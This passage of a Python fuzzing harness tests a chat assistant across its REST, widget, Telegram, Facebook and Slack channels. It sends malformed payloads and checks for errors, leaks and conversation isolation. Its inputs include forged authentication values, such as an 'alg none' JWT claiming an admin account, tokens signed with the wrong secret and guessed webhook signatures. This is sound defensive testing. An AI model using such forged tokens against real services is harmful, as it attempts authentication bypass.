            items.append(new(platform, kind, extra=extra))
        rng.shuffle(items)
        for item in items:
            item.extra["target"] = gen.pick(["canary", "probe0", "probe1", "probe2"])
        batch(platform, items)
    # indices in the order of the plan's lists, whatever the shuffles did
    ordered = [item for job in [*conversations, *batches] for item in job.inputs]
    for index, item in enumerate(ordered):
        item.index = index
    return Plan(seed, mix, conversations, batches, known_defects)


def widget_event(gen: Generator) -> Tuple[str, Any]:
    """A socket.io event the widget never sends, or a user_uttered the server must ignore."""
    rng = gen.rng
    if rng.random() < 0.75:
        data = gen.pick(
            [
                None,
                "",
                42,
                4.2,
                True,
                [],
                ["hello"],
                {},
                {"text": "hello"},
                {"message": None},
                {"message": 42},
                {"message": ["x"]},
                {"message": {"text": "x"}},
                {"message": ""},
                {"message": "   \n\t"},
                {"message": True},
                {"message": b"\xff\xfe"},
                "a string instead of an object",
                [1, 2, 3],
                {"message": " ", "session_id": "telegram-1"},
            ]
        )
        return "user_uttered", data
    event = gen.pick(["session_request", "bot_uttered", "message", "history", "user_uttered_x", "agent_reply"])
    return event, gen.pick([{"session_id": "web-0000"}, {"text": "I am the bot"}, "hello", None, {"message": "hi"}])


def bad_widget_token(gen: Generator) -> Any:
    rng = gen.rng
    return gen.pick(
        [
            "not-a-jwt",
            "a.b.c",
            "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbkBhY21lLmV4YW1wbGUiLCJleHAiOjQxMDI0NDQ4MDB9.",  # alg none
            issue_token("admin@acme.example", secret="not-the-secret-but-long-enough-0123456789"),
            issue_token("admin@acme.example", minutes=-5),
            issue_token("not-an-email", minutes=5),
            "x" * rng.randint(4097, 10_000),
            42,
            ["token"],
            {"sub": "admin@acme.example"},
            "\ud800",
        ]
    )


def forged(gen: Generator, platform: str) -> Dict[str, Any]:
    """How an unsigned or badly signed webhook is wrong (the body is a real message)."""
    if platform == "telegram":
        secret = gen.pick(
            [None, "", "guess", TELEGRAM_SECRET[:-1], TELEGRAM_SECRET + "x", TELEGRAM_SECRET.upper(), "tg-webhook"]
        )
        return {"secret": secret}
    if platform == "facebook":
        kind = gen.pick(["missing", "zeros", "sha1", "other_secret", "other_body", "truncated", "empty", "verify"])
        return {"signature": kind}
    kind = gen.pick(
        ["missing", "forged", "other_secret", "stale", "future", "no_timestamp", "bad_timestamp", "v1", "other_body"]
    )
    return {"signature": kind, "path": gen.pick(["webhook", "webhook", "interactive"])}


def malformed_webhook(gen: Generator, platform: str, known_defects: bool) -> Tuple[str, Dict[str, Any]]:
    """(kind, what to send and expect) for a correctly signed webhook that is not a message to answer."""
    rng = gen.rng
    garbage = gen.pick(
        [
            bytes(rng.randrange(128, 256) for _ in range(rng.randint(1, 100))),
            b"{",
            b"",
            b"{'a': 1}",
            b'{"update_id": 1,}',
            b"not json at all",
            b"\x00\x01",
        ]
    )
    if platform == "telegram":
        kinds = ["bad_json", "not_object", "ignored_update"] + (["misshapen"] if known_defects else [])
        kind = gen.pick(kinds)
        if kind == "bad_json":
            return kind, {"raw": garbage, "status": 400, "json": {"error": "invalid JSON"}}
        if kind == "not_object":
            return kind, {
                "raw": gen.pick([b"[1]", b"null", b"42", b'"x"', b"[]", b"true"]),
                "status": 400,
                "json": {"error": "invalid update"},
            }
        if kind == "ignored_update":
            shape = gen.pick(
                [
                    "empty",
                    "no_message",
                    "sticker",
                    "text_number",
                    "text_list",
                    "text_object",
                    "text_null",
                    "text_blank",
                    "no_chat_id",
                    "no_from_id",
                    "bot",
                    "edited",
                    "channel_post",
                    "click_no_data",
                    "click_number",
                ]
            )
            return kind, {"shape": shape, "status": 200, "json": {"ok": True}}
        shape = gen.pick(["message_list", "message_string", "chat_string", "from_string", "click_message_string"])
        return kind, {"shape": shape, "status": "<500"}
    if platform == "facebook":
        kinds = ["bad_json", "not_page", "ignored_event"] + (["misshapen"] if known_defects else [])
        kind = gen.pick(kinds)
        if kind == "bad_json":
            return kind, {"raw": garbage, "status": 400, "json": {"error": "invalid JSON"}}
        if kind == "not_page":
            raw = gen.pick(
                [b"[]", b"null", b"42", b'{"object": "user"}', b'{"object": "instagram", "entry": []}', b"{}"]
            )
            return kind, {"raw": raw, "status": 404, "json": {"error": "not a page event"}}
        if kind == "ignored_event":
            shape = gen.pick(
                [
                    "no_entry",
                    "entry_empty",
                    "entry_null",
                    "no_messaging",
                    "no_sender",
                    "sender_empty",
                    "echo",
                    "delivery",
                    "read",
                    "reaction",
                    "attachment",
                    "text_number",
                    "text_blank",
                    "postback_empty",
                    "quick_reply_number",
                ]
            )
            return kind, {"shape": shape, "status": 200, "text": "EVENT_RECEIVED"}
        shape = gen.pick(["entry_dict", "entry_string", "messaging_string", "sender_string", "quick_reply_string"])
        return kind, {"shape": shape, "status": "<500"}
    kinds = ["bad_json", "not_object", "url_verification", "other_type", "ignored_event", "bad_interactive"]
    kind = gen.pick(kinds + (["misshapen"] if known_defects else []))
    if kind == "bad_json":
        return kind, {"raw": garbage, "status": 400, "json": {"error": "invalid JSON"}}
    if kind == "not_object":
        return kind, {
            "raw": gen.pick([b"[1]", b"null", b"42", b'"x"']),
            "status": 400,
            "json": {"error": "invalid event"},
        }
    if kind == "url_verification":
        challenge = gen.pick(["3eZbrw1aBm2rZgRNFdxV2595E9CY3gmdALWMmHkvFXO7tYXAYM8P", "<script>", "", "😀" * 10])
        body = {"type": "url_verification", "challenge": challenge, "token": "legacy"}
        return kind, {"raw": json.dumps(body).encode(), "status": 200, "json": {"challenge": challenge}}
    if kind == "other_type":
        body = {"type": gen.pick(["app_rate_limited", "block_suggestion", "", None, 42]), "event": {"type": "message"}}
        return kind, {"raw": json.dumps(body).encode(), "status": 200, "text": ""}
    if kind == "ignored_event":
        shape = gen.pick(
            [
                "bot",
                "subtype",
                "no_user",
                "no_channel",
                "reaction",
                "channel_message",
                "blank",
                "only_mention",
                "no_event",
            ]
        )
        return kind, {"shape": shape, "status": 200, "text": ""}
    if kind == "bad_interactive":
        shape = gen.pick(["not_json", "bad_utf8", "not_object", "other_type", "value_number", "value_blank", "no_user"])
        if shape == "not_json":
            return kind, {
                "raw": b"payload=" + gen.pick([b"%7B", b"not-json", b""]),
                "status": 400,
                "json": {"error": "invalid payload"},
            }
        if shape == "bad_utf8":
            return kind, {"raw": b"payload=%ff%fe%fd", "status": 400, "json": {"error": "invalid payload"}}
        return kind, {"shape": shape, "status": 200, "text": ""}
    shape = gen.pick(["event_string", "event_list", "user_string", "channel_string"])
    return kind, {"shape": shape, "status": "<500"}


# --- signed webhooks that are not messages ----------------------------------------------------------------


def telegram_shape(shape: str, chat: int) -> Dict[str, Any]:
    update = telegram_update(chat, "hello", "en")
    message = update["message"]
    if shape == "empty":
        return {}
    if shape == "no_message":
        return {"update_id": update["update_id"]}
    if shape == "sticker":
        del message["text"]
        message["sticker"] = {"file_id": "CAACAgIAAxkBAAE", "emoji": "👍"}
    elif shape.startswith("text_"):
        message["text"] = {"text_number": 42, "text_list": ["hi"], "text_object": {"a": "hi"}, "text_null": None}.get(
            shape, " \n\t "
        )
    elif shape == "no_chat_id":
        message["chat"] = {"type": "private"}
    elif shape == "no_from_id":
        message["from"] = {"is_bot": False, "first_name": "x"}
    elif shape == "bot":
        message["from"]["is_bot"] = True
    elif shape in ("edited", "channel_post"):
        return {"update_id": update["update_id"], "edited_message" if shape == "edited" else "channel_post": message}
    elif shape.startswith("click_"):
        click = telegram_click(chat, 42, "en")
        if shape == "click_no_data":
            del click["callback_query"]["data"]
        if shape == "click_message_string":
            click["callback_query"]["message"] = "x"
        return click
    elif shape == "message_list":
        update["message"] = [1]
    elif shape == "message_string":
        update["message"] = "hello"
    elif shape == "chat_string":
        message["chat"] = "x"
    elif shape == "from_string":
        message["from"] = "me"
    return update


def facebook_shape(shape: str, psid: str) -> Dict[str, Any]:
    body = facebook_event(psid, "hello")
    entry = body["entry"][0]
    event = entry["messaging"][0]
    message = event["message"]
    if shape == "no_entry":
        del body["entry"]
    elif shape == "entry_empty":
        body["entry"] = []
    elif shape == "entry_null":
        body["entry"] = None
    elif shape == "no_messaging":
        del entry["messaging"]
    elif shape == "no_sender":
        del event["sender"]
    elif shape == "sender_empty":
        event["sender"] = {"id": ""}
    elif shape == "echo":
        message["is_echo"] = True
    elif shape in ("delivery", "read", "reaction"):
        del event["message"]
        event[shape] = {"watermark": 1, "mids": ["m_1"]} if shape != "reaction" else {"reaction": "love", "mid": "m_1"}
    elif shape == "attachment":
        del message["text"]
        message["attachments"] = [{"type": "image", "payload": {"url": "https://example.com/x.png"}}]
    elif shape == "text_number":
        message["text"] = 42
    elif shape == "text_blank":
        message["text"] = "   \n"
    elif shape == "postback_empty":
        del event["message"]
        event["postback"] = {"title": "", "payload": "", "mid": f"m_{uuid.uuid4().hex}"}
    elif shape == "quick_reply_number":
        del message["text"]
        message["quick_reply"] = {"payload": 42}
    elif shape == "entry_dict":
        body["entry"] = {"a": 1}
    elif shape == "entry_string":
        body["entry"] = ["x"]
    elif shape == "messaging_string":
        entry["messaging"] = ["x"]
    elif shape == "sender_string":
        event["sender"] = "x"
    elif shape == "quick_reply_string":
        message["quick_reply"] = "x"
    return body


def slack_shape(shape: str, user: str) -> Tuple[str, bytes]:
    """(path, raw body) of a signed Slack request that is not a message to answer."""
    if shape in ("not_object", "other_type", "value_number", "value_blank", "no_user", "user_string", "channel_string"):
        payload: Any = slack_click_payload(user, "hello")
        if shape == "not_object":
            payload = [1]
        elif shape == "other_type":
            payload["type"] = "view_submission"
        elif shape == "value_number":
            payload["actions"][0]["value"] = 42
        elif shape == "value_blank":
            payload["actions"][0]["value"] = "  "
        elif shape == "no_user":
            payload["user"] = {}
        elif shape == "user_string":
            payload["user"] = "x"
        else:
            payload["channel"] = "x"
        return "interactive", urlencode({"payload": json.dumps(payload)}).encode()
    body = slack_event(user, "hello")
    event = body["event"]
    if shape == "bot":
        event["bot_id"] = "B0STANDIN"
    elif shape == "subtype":
        event["subtype"] = "message_changed"
    elif shape == "no_user":
        del event["user"]
    elif shape == "no_channel":
        del event["channel"]
    elif shape == "reaction":
        event["type"] = "reaction_added"
    elif shape == "channel_message":
        event["channel_type"] = "channel"
        event["channel"] = f"C{user[1:]}"
    elif shape == "blank":
        event["text"] = "  \n "
    elif shape == "only_mention":
        event["text"] = "<@U0BOT>"
    elif shape == "no_event":
        del body["event"]
    elif shape == "event_string":
        body["event"] = "x"
    elif shape == "event_list":
        body["event"] = [1]
    return "webhook", json.dumps(body).encode()


# --- the run --------------------------------------------------------------------------------------------


@dataclass
class Failure:
    index: int  # the input's seed index (-1: a check of the whole run)
    channel: str
    family: str
    check: str  # 5xx, status, error_body, silence, spoke_while_paused, refusal, content, leak, language, stored, ...
    detail: str
    text: str  # the input, shown
    known: Optional[str] = None  # the known defect (KNOWN_DEFECTS) this is an instance of

    def __str__(self) -> str:
        known = f" (known defect: {self.known})" if self.known else ""
        return f"#{self.index} {self.channel}/{self.family} [{self.check}]{known} {self.detail} <- {self.text}"


class Report:
    def __init__(self, plan: Plan, threads: int, budget: float) -> None:
        self.plan, self.threads, self.budget = plan, threads, budget
        self.counts: Counter = Counter()  # (channel, family) -> inputs sent
        self.rasa: Counter = Counter()  # channel -> inputs that reached Rasa (the NLU)
        self.failures: List[Failure] = []
        self.skipped = 0
        self.elapsed = 0.0
        self.busy: Counter = Counter()  # (channel, "conversation" | "batch") -> seconds a thread spent on them
        self.jobs: Counter = Counter()  # (channel, "conversation" | "batch") -> how many
        self._lock = threading.Lock()

    def timed(self, channel: str, kind: str, seconds: float) -> None:
        with self._lock:
            self.busy[(channel, kind)] += seconds
            self.jobs[(channel, kind)] += 1

    def sent(self, item: Input) -> None:
        with self._lock:
            self.counts[(item.channel, item.family)] += 1

    def reached_rasa(self, item: Input) -> None:
        with self._lock:
            self.rasa[item.channel] += 1

    def skip(self, items: List[Input]) -> None:
        with self._lock:
            self.skipped += len(items)

    def fail(self, item: Input, check: str, detail: str, known: Optional[str] = None) -> None:
        with self._lock:
            self.failures.append(Failure(item.index, item.channel, item.family, check, detail, shown(item.text), known))

    @property
    def total(self) -> int:
        return sum(self.counts.values())

    @property
    def through_nlu(self) -> int:
        return sum(self.rasa.values())

    def unexpected(self, *checks: str) -> List[Failure]:
        found = [f for f in self.failures if not f.known and (not checks or f.check in checks)]
        return sorted(found, key=lambda f: f.index)

    def known(self, defect: str) -> List[Failure]:
        return sorted((f for f in self.failures if f.known == defect), key=lambda f: f.index)

    def figures(self) -> str:
        rate = self.total / self.elapsed if self.elapsed else 0.0
        nlu_rate = self.through_nlu / self.elapsed if self.elapsed else 0.0
        return (
            f"hostile inputs, seed {self.plan.seed}: {self.total:,} inputs in {self.elapsed:.1f} s ({rate:.1f}/s), "
            f"{self.through_nlu:,} through the NLU ({nlu_rate:.1f}/s), {self.threads} threads, "
            f"{self.skipped} skipped (budget {self.budget:.0f} s)"
        )

    def table(self) -> str:
        families = [f for f in FAMILIES if any(self.counts[(c, f)] for c in CHANNELS)]
        families += sorted({f for (_, f) in self.counts} - set(FAMILIES))
        width = max(len(f) for f in [*families, "through the NLU"]) + 2
        lines = ["".ljust(width) + "".join(c.rjust(10) for c in [*CHANNELS, "total"])]
        for family in families:
            row = [self.counts[(c, family)] for c in CHANNELS]
            lines.append(family.ljust(width) + "".join(f"{n:>10,}" for n in [*row, sum(row)]))
        totals = [sum(n for (c, _), n in self.counts.items() if c == channel) for channel in CHANNELS]
        lines.append("total".ljust(width) + "".join(f"{n:>10,}" for n in [*totals, sum(totals)]))
        rasa = [self.rasa[c] for c in CHANNELS]
        lines.append("through the NLU".ljust(width) + "".join(f"{n:>10,}" for n in [*rasa, sum(rasa)]))
        return "\n".join(lines)

    def problems(self, limit: int = 15) -> str:
        lines = [f"{len(self.unexpected())} unexpected failures"]
        lines += [f"  {failure}" for failure in self.unexpected()[:limit]]
        for defect in KNOWN_DEFECTS:
            found = self.known(defect)
            if found:
                lines.append(f"known defect {defect}: {len(found)} inputs, first: {found[0]}")
        return "\n".join(lines)

    def timing(self) -> str:
        parts = [
            f"{channel} {kind}s {self.jobs[(channel, kind)]} x {self.busy[(channel, kind)] / self.jobs[(channel, kind)]:.1f} s"
            for (channel, kind) in sorted(self.jobs)
        ]
        return "thread time per job: " + ", ".join(parts)

    def summary(self) -> str:
        return f"{self.figures()}\n{self.table()}\n{self.timing()}\n{self.problems()}"


@dataclass
class State:
    """What a conversation's driver knows about it."""

    conversation: Conversation
    accepted: int = 0  # messages that reached Rasa (stored in the tracker)
    paused: bool = False  # handed to a person: the bot is silent
    reset: bool = False  # a typed /restart or /back: the language is forgotten (known defect)


_DETECT = threading.Lock()


def detect(text: str) -> Optional[str]:
    with _DETECT:
        return DETECTOR.detect(text)["code"]


class Runner:
    """Sends a plan to a running assistant (with the messenger channels on a PlatformStandIn) and checks it."""

    def __init__(
        self,
        assistant: Assistant,
        standin: PlatformStandIn,
        plan: Plan,
        threads: int = 4,
        budget: float = 600.0,
        progress: Optional[Callable[[str], None]] = None,
    ) -> None:
        self.assistant, self.standin, self.plan = assistant, standin, plan
        self.threads, self.budget = threads, budget
        self.progress = progress or (lambda line: None)
        self.report = Report(plan, threads, budget)
        self.run_id = uuid.uuid4().hex[:8]
        self._local = threading.local()
        self.canaries: Dict[str, str] = {}  # name -> conversation id
        self.canary_ids: Dict[str, str] = {}  # platform -> chat id, PSID or Slack user
        self.snapshots: Dict[str, List[dict]] = {}
        self.canary_calls: Dict[str, int] = {}
        self.probes: Dict[str, List[str]] = {p: [str(new_id()) for _ in range(3)] for p in MESSENGERS}
        self.probes["slack"] = [f"U{p}" for p in self.probes["slack"]]
        self._done = 0

    # --- plumbing ---------------------------------------------------------------------------------------

    def http(self) -> requests.Session:
        if not hasattr(self._local, "session"):
            self._local.session = requests.Session()
        return self._local.session

    def tracker(self, conversation: str) -> dict:
        answer = self.http().get(
            f"{self.assistant.url}/conversations/{quote(conversation, safe='')}/tracker",
            params={"token": self.assistant.token, "include_events": "ALL"},
            timeout=30,
        )
        answer.raise_for_status()
        return answer.json()

    def events(self, conversation: str) -> List[dict]:
        return self.tracker(conversation).get("events") or []

    def wait_turn(self, conversation: str, users: int, timeout: float = 60) -> Optional[Tuple[List[dict], bool]]:
        """The events of the conversation's `users`-th user message once its turn is over (the bot listens
        again, or a person owns the conversation), and whether it is paused; None after `timeout`."""
        deadline, pause = time.monotonic() + timeout, 0.02
        while True:
            tracker = self.tracker(conversation)
            events = tracker.get("events") or []
            found = [n for n, event in enumerate(events) if event["event"] == "user"]
            if len(found) >= users:
                turn = events[found[users - 1] :]
                if tracker.get("paused") or any(
                    e["event"] == "action" and e.get("name") == "action_listen" for e in turn[1:]
                ):
                    return turn, bool(tracker.get("paused"))
            if time.monotonic() > deadline:
                return None
            time.sleep(pause)
            pause = min(0.2, pause * 1.5)

    def status(
        self,
        item: Input,
        answer: requests.Response,
        expected: Any,
        body: Any = None,
        text: Optional[str] = None,
        known: Optional[str] = None,
    ) -> bool:
        """Checks an HTTP answer: never a 5xx; the expected status ("<500": anything else) and body."""
        if answer.status_code >= 500:
            self.report.fail(item, "5xx", f"HTTP {answer.status_code}: {answer.text[:160]!r}", known)
            return False
        if expected == "<500":
            return True
        if answer.status_code != expected:
            self.report.fail(item, "status", f"HTTP {answer.status_code}, expected {expected}: {answer.text[:160]!r}")
            return False
        if body is not None:
            try:
                got = answer.json()
            except ValueError:
                self.report.fail(item, "error_body", f"not JSON: {answer.text[:160]!r}")
                return False
            if got != body:
                self.report.fail(item, "error_body", f"{got!r}, expected {body!r}")
                return False
        if text is not None and answer.text != text:
            self.report.fail(item, "error_body", f"{answer.text[:160]!r}, expected {text!r}")
            return False
        return True

    # --- the checks of an answer ------------------------------------------------------------------------

    def content(self, item: Input, conversation: Conversation, texts: List[str]) -> None:
        for text in texts:
            if TRACE.search(text):
                self.report.fail(item, "content", f"an error in a reply: {shown(text)}")
            if PLACEHOLDER.search(text):
                self.report.fail(item, "content", f"an unfilled placeholder in a reply: {shown(text)}")
            for card in CARD.findall(text):
                if not (conversation.account or "").endswith(CARDS[card]):
                    self.report.fail(item, "leak", f"another customer's card ({card}) in a reply: {shown(text)}")

    def language(
        self, item: Input, state: State, texts: List[str], known: Optional[str] = None, expected: Optional[str] = None
    ) -> None:
        joined = "\n".join(texts)
        expected = expected or state.conversation.language
        code = detect(joined)
        if code == expected or code is None and sum(ch.isalpha() for ch in joined) < 40:
            return  # the conversation's language, or only a number, an emoji, a reference
        known = known or ("rasa_control_intents" if state.reset else None)
        self.report.fail(item, "language", f"reply in {code}, conversation in {expected}: {shown(joined)}", known)

    def refusal(self, item: Input, state: State, texts: List[str], known: Optional[str] = None) -> None:
        if len(texts) != 1 or not REFUSAL.search(texts[0]):
            self.report.fail(item, "refusal", f"{len(texts)} replies, expected the polite refusal: {shown(texts)}")
            return
        self.content(item, state.conversation, texts)
        self.language(item, state, texts, known)

    def turn(self, item: Input, state: State, texts: List[str], paused_after: Optional[bool] = None) -> None:
        """The checks of the replies to a message that reached Rasa."""
        texts = [text for text in texts if text]
        control = isinstance(item.text, str) and RASA_CONTROL.match(item.text)
        known = "rasa_control_intents" if control else None
        if state.paused:
            if texts:
                self.report.fail(item, "spoke_while_paused", f"a person owns the conversation: {shown(texts)}", known)
            return
        if not texts:
            self.report.fail(item, "silence", "no reply", known)
        else:
            self.content(item, state.conversation, texts)
            self.language(item, state, texts)
            if item.family in ("question", "mixed") and detect("\n".join(texts)) == state.conversation.language:
                state.reset = False
        if control and control.group(1) in ("restart", "back"):
            state.reset = True
        if REFERENCE.search("\n".join(texts)) or paused_after:
            state.paused = True

    def stored(self, state: State, conversation: str) -> None:
        """The conversation holds exactly the messages that reached Rasa, cleaned."""
        first = state.conversation.inputs[0]
        users = [event for event in self.events(conversation) if event["event"] == "user"]
        if len(users) != state.accepted:
            self.report.fail(
                first, "stored", f"{conversation}: {len(users)} messages stored, {state.accepted} reached Rasa"
            )
        for event in users:
            text = event.get("text") or ""
            if len(text) > MAX_MESSAGE_CHARS or UNCLEAN.search(text) or unicodedata.normalize("NFC", text) != text:
                self.report.fail(first, "stored", f"{conversation}: a text stored uncleaned: {shown(text)}")

    def route(self, item: Input, platform: str) -> str:
        """What a messenger channel does with a message: ignored, command (linking), refused or rasa."""
        text = item.text
        if platform == "slack" and item.via == "message" and isinstance(text, str):
            text = SLACK_MENTION.sub("", text).strip()
        if blank(text):
            return "ignored"
        if platform == "telegram" and text.strip().split("@")[0] == "/start":
            return "rasa"  # /greet
        if parse_command(text) is not None:
            return "command"
        return "refused" if item.refused else "rasa"

    def messenger_outcome(self, item: Input, state: State, route: str, texts: List[str], locale: bool) -> None:
        known = None if locale else "messenger_reply_language"
        if route == "ignored":
            if texts:
                self.report.fail(item, "stray", f"a blank message was answered: {shown(texts)}")
        elif route == "refused":
            self.refusal(item, state, texts, known)
        elif route == "command":
            # the command word tells the language ("lier", "link") unless the platform's locale does
            command = parse_command(item.text)
            hint = None if locale or command is None else command.language
            if not texts:
                self.report.fail(item, "silence", "a link command was not answered")
            else:
                self.content(item, state.conversation, texts)
                self.language(item, state, texts, None if hint else known, hint)

    # --- the run ------------------------------------------------------------------------------------------

    def run(self) -> Report:
        started = time.monotonic()
        self.setup()
        deadline = started + self.budget
        jobs = self.plan.jobs()
        with ThreadPoolExecutor(self.threads) as pool:
            for future in [pool.submit(self.job, job, deadline) for job in jobs]:
                future.result()
        self.check_isolation()
        self.report.elapsed = time.monotonic() - started
        return self.report

    def job(self, job: Any, deadline: float) -> None:
        if time.monotonic() > deadline:
            self.report.skip(job.inputs)
            return
        kind = "conversation" if isinstance(job, Conversation) else "batch"
        started = time.monotonic()
        try:
            getattr(self, f"{job.channel}_{kind}")(job)
        except Exception as error:  # noqa: BLE001 - a driver that breaks is reported with its job's first input
            self.report.fail(job.inputs[0], "driver", f"{type(error).__name__}: {error}"[:300])
        self.report.timed(job.channel, kind, time.monotonic() - started)
        self._done += 1
        if self._done % 25 == 0:
            self.progress(f"{self._done} jobs, {self.report.total:,} inputs, {len(self.report.failures)} failures")

    # --- canaries: conversations nobody else may write to -----------------------------------------------

    def setup(self) -> None:
        http = self.http()
        with ChatClient(self.assistant, {"token": issue_token("admin@acme.example"), "locale": "fr-FR"}) as chat:
            chat.send("pourquoi mon renouvellement a échoué ?")
            chat.send("merci beaucoup")
            self.canaries["socketio"] = chat.session["session_id"]
        chat_id = str(new_id())
        raw = json.dumps(telegram_update(int(chat_id), "bonjour, comment résilier mon abonnement ?", "fr")).encode()
        assert post_telegram_raw(self.assistant, raw, http=http).status_code == 200
        psid = str(new_id())
        raw = json.dumps(facebook_event(psid, "how do I cancel my subscription?")).encode()
        assert post_facebook_raw(self.assistant, raw, http=http).status_code == 200
        user = f"U{new_id()}"
        raw = json.dumps(slack_event(user, "hello, why did my renewal fail?")).encode()
        assert post_slack_raw(self.assistant, raw, http=http).status_code == 200
        sender = f"hx{self.run_id}-canary"
        body = {"sender": sender, "message": "bonjour, quel est mon abonnement ?"}
        assert http.post(f"{self.assistant.url}/webhooks/rest/webhook", json=body, timeout=60).status_code == 200
        self.canary_ids = {"telegram": chat_id, "facebook": psid, "slack": user}
        self.canaries.update(
            {"telegram": f"telegram-{chat_id}", "facebook": f"facebook-{psid}", "slack": f"slack-{user}"}
        )
        self.canaries["rest"] = f"rest-{sender}"
        for platform in ("facebook", "slack"):
            assert self.wait_turn(self.canaries[platform], 1), f"the {platform} canary was not answered"
        for name, conversation in self.canaries.items():
            self.snapshots[name] = self.events(conversation)
            assert [e for e in self.snapshots[name] if e["event"] == "user"], f"{name} canary has no message"
        for platform in MESSENGERS:
            self.canary_calls[platform] = len(
                self.standin.calls_for(self.destination(platform, self.canary_ids[platform]))
            )

    def destination(self, platform: str, who: str) -> Callable[[Call], bool]:
        if platform == "telegram":
            return to_telegram(who)
        if platform == "facebook":
            return to_facebook(who)
        channels = {f"D{who[1:]}", f"C{who[1:]}", who}
        return lambda call: call.platform == "slack" and (call.body or {}).get("channel") in channels

    def target(self, item: Input) -> str:
        name = item.extra.get("target", "probe0")
        return self.canary_ids[item.channel] if name == "canary" else self.probes[item.channel][int(name[-1])]

    def check_isolation(self) -> None:
        for name, conversation in self.canaries.items():
            after = self.events(conversation)
            if after != self.snapshots[name]:
                added = [e.get("text") for e in after[len(self.snapshots[name]) :] if e["event"] in ("user", "bot")]
                marker = Input(-1, name, "canary")
                self.report.fail(
                    marker,
                    "canary",
                    f"{conversation} changed: {len(self.snapshots[name])} -> {len(after)} events, {shown(added)}",
                )
        for platform in MESSENGERS:
            calls = len(self.standin.calls_for(self.destination(platform, self.canary_ids[platform])))
            if calls != self.canary_calls[platform]:
                marker = Input(-1, platform, "canary")
                self.report.fail(marker, "canary", f"{calls - self.canary_calls[platform]} messages sent to the canary")
            for probe in self.probes[platform]:
                marker = Input(-1, platform, "probe")
                users = [e for e in self.events(f"{platform}-{probe}") if e["event"] == "user"]
                if users:
                    self.report.fail(
                        marker, "probe", f"{platform}-{probe} received {shown([e.get('text') for e in users])}"
                    )
                if self.standin.calls_for(self.destination(platform, probe)):
                    self.report.fail(marker, "probe", f"messages were sent to {platform}-{probe}")

    # --- REST -------------------------------------------------------------------------------------------

    def rest_conversation(self, conversation: Conversation) -> None:
        http, state = self.http(), State(conversation)
        sender = f"hx{self.run_id}-{conversation.number}"
        if conversation.extra.get("sender"):
            sender = self.canaries[conversation.extra["sender"].split(":", 1)[1]]
        token = issue_token(conversation.account) if conversation.account else None
        for item in conversation.inputs:
            self.report.sent(item)
            metadata = dict(item.extra.get("metadata") or {})
            if token and "token" not in metadata:
                metadata["token"] = token
            body = {"sender": sender, "message": item.text, "metadata": metadata}
            answer = http.post(
                f"{self.assistant.url}/webhooks/rest/webhook",
                data=json.dumps(body).encode(),
                headers={"Content-Type": "application/json"},
                timeout=90,
            )
            if not self.status(item, answer, 200):
                continue
            replies = answer.json()
            if not isinstance(replies, list) or not all(isinstance(r, dict) for r in replies):
                self.report.fail(item, "error_body", f"not a list of messages: {shown(replies)}")
                continue
            if any(r.get("recipient_id") != f"rest-{sender}" for r in replies):
                self.report.fail(item, "content", f"a reply to another conversation: {shown(replies)}")
            texts = [r.get("text") or "" for r in replies]
            texts += [str(b.get("title") or "") for r in replies for b in r.get("buttons") or []]
            if item.refused:
                self.refusal(item, state, [t for t in texts if t])
            else:
                state.accepted += 1
                self.report.reached_rasa(item)
                self.turn(item, state, texts)
        self.stored(state, f"rest-{sender}")

    def rest_batch(self, batch: Batch) -> None:
        http = self.http()
        for item in batch.inputs:
            self.report.sent(item)
            answer = http.post(
                f"{self.assistant.url}/webhooks/rest/webhook",
                data=item.extra["raw"],
                headers={"Content-Type": "application/json"},
                timeout=60,
            )
            self.status(item, answer, item.extra["status"], {"error": item.extra["error"]})

    # --- the widget (socket.io) -------------------------------------------------------------------------

    def socketio_conversation(self, conversation: Conversation) -> None:
        state = State(conversation)
        auth = dict(conversation.extra.get("auth") or {})
        if conversation.account:
            auth["token"] = issue_token(conversation.account)
        with ChatClient(self.assistant, auth) as chat:
            session = chat.session["session_id"]
            for item in conversation.inputs:
                self.report.sent(item)
                if item.via == "event":
                    data = item.extra["data"]
                    if data is None:
                        chat.client.emit(item.extra["event"])
                    else:
                        chat.client.emit(item.extra["event"], data)
                    continue
                fields = item.extra.get("fields") or {}
                if item.refused:
                    chat.emit({"message": item.text, **fields})
                    messages = chat.receive_messages(1, 30)
                    self.refusal(item, state, [m.get("text") or "" for m in messages])
                    continue
                if blank(item.text):
                    chat.emit({"message": item.text, **fields})  # the widget never sends it: nothing to answer
                    continue
                try:
                    answer = chat.send(item.text, 60, **fields)
                except AssertionError as error:
                    state.accepted += 1
                    self.report.fail(item, "silence", str(error))
                    continue
                state.accepted += 1
                self.report.reached_rasa(item)
                self.turn(item, state, [answer] if answer else [])
            stray = chat.receive_messages(1, 0.2)
            if stray:
                self.report.fail(conversation.inputs[-1], "stray", f"{session}: an unexpected message {shown(stray)}")
        self.stored(state, session)

    def socketio_batch(self, batch: Batch) -> None:
        for item in batch.inputs:
            self.report.sent(item)
            problem = refused_connection(self.assistant.url, item.extra["token"])
            if problem:
                self.report.fail(item, "status", problem)

    # --- Telegram ---------------------------------------------------------------------------------------

    def telegram_conversation(self, conversation: Conversation) -> None:
        http, state = self.http(), State(conversation)
        chat = new_id()
        match, last = to_telegram(chat), b""
        for item in conversation.inputs:
            self.report.sent(item)
            before = len(self.standin.calls_for(match))
            if item.via == "replay":
                answer = post_telegram_raw(self.assistant, last, http=http)
                if self.status(item, answer, 200, {"ok": True, "duplicate": True}):
                    if len(self.standin.calls_for(match)) != before:
                        self.report.fail(item, "replay", "a re-delivered update was answered again")
                continue
            make = telegram_click if item.via == "click" else telegram_update
            last = json.dumps(make(chat, item.text, conversation.locale)).encode()
            answer = post_telegram_raw(self.assistant, last, http=http)
            if not self.status(item, answer, 200, {"ok": True}):
                continue
            calls = self.standin.calls_for(match)[before:]  # Telegram's updates are answered before the 200
            texts = [c.text for c in calls] + [
                str(button.get("text") or "")
                for c in calls
                for row in ((c.body or {}).get("reply_markup") or {}).get("inline_keyboard") or []
                for button in row
            ]
            route = self.route(item, "telegram")
            if route == "rasa":
                state.accepted += 1
                self.report.reached_rasa(item)
                self.turn(item, state, texts)
            else:
                self.messenger_outcome(item, state, route, texts, conversation.locale is not None)
        self.stored(state, f"telegram-{chat}")

    # --- Messenger and Slack: answered after the 200 ------------------------------------------------------

    def async_turn(
        self, item: Input, state: State, conversation: str, match: Callable[[Call], bool], before: int
    ) -> None:
        route = self.route(item, item.channel)
        if route == "ignored":
            return
        if route in ("refused", "command"):
            calls = self.standin.wait_for(match, before + 1, timeout=30)[before:]
